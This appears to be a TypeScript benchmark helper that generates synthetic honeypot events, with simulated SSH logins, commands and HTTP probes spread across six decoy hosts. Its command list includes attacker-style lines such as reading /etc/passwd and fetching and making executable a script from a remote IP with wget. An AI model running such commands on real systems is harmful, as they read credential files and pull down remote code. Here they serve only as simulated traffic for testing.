// Realistic synthetic service events for benchmarks: connections of 10 events each (connect, six
// password attempts, two commands, disconnect; or HTTP requests), from 20,000 attackers interleaved
// over six deckies; one attacker's connections are spread over the whole run.
import { credentialFields } from '@decnet/protocol';

const DECKIES = ['web-01', 'web-02', 'db-01', 'mail-01', 'files-01', 'iot-01'];
const PASSWORDS = ['123456', 'password', 'admin', 'root', 'toor', 'qwerty', 'letmein', 'Winter2024!', 'changeme', 'P@ssw0rd'];
const COMMANDS = ['uname -a', 'id', 'cat /etc/passwd', 'wget http://203.0.113.9/x.sh', 'chmod +x x.sh', 'ps aux', 'crontab -l'];

export function syntheticBatch(start: number, size: number, attackers = 20_000): object[] {
  const out: object[] = [];
  const base = Date.now() - 3_600_000;
  for (let i = start; i < start + size; i++) {
    const s = Math.floor(i / 10);
    const a = (Math.imul(s, 2654435761) >>> 0) % attackers;
    const ip = `10.${(a >> 16) & 255}.${(a >> 8) & 255}.${a & 255}`;
    const decky = DECKIES[s % DECKIES.length]!;
    const kind = i % 10;
    const session = `s${s}`;
    const service = s % 5 === 4 ? 'http' : 'ssh';
    const eventType = service === 'http' ? 'request' : kind === 0 ? 'connect' : kind < 7 ? 'auth_attempt' : kind < 9 ? 'command' : 'disconnect';
    const fields: Record<string, string> =
      eventType === 'auth_attempt'
        ? { session_id: session, ...(credentialFields('root', PASSWORDS[i % PASSWORDS.length]!, 'plaintext', 'failure') as unknown as Record<string, string>) }
        : eventType === 'command'
          ? { session_id: session, cmd: COMMANDS[i % COMMANDS.length]!, user: 'root' }
          : eventType === 'request'
            ? { session_id: session, method: 'GET', path: '/wp-login.php', user_agent: 'Mozilla/5.0 zgrab/0.x' }
            : { session_id: session, client_banner: 'SSH-2.0-libssh2_1.10.0' };
    out.push({
      id: `bench-${i}`,
      ts: new Date(base + i * 3).toISOString(),
      decky,
      service,
      eventType,
      srcIp: ip,
      srcPort: 30000 + (i % 30000),
      fields,
      raw: `<134>1 ${new Date(base + i * 3).toISOString()} ${decky} ${service} - ${eventType} [relay@55555 src_ip="${ip}"]`,
    });
  }
  return out;
}
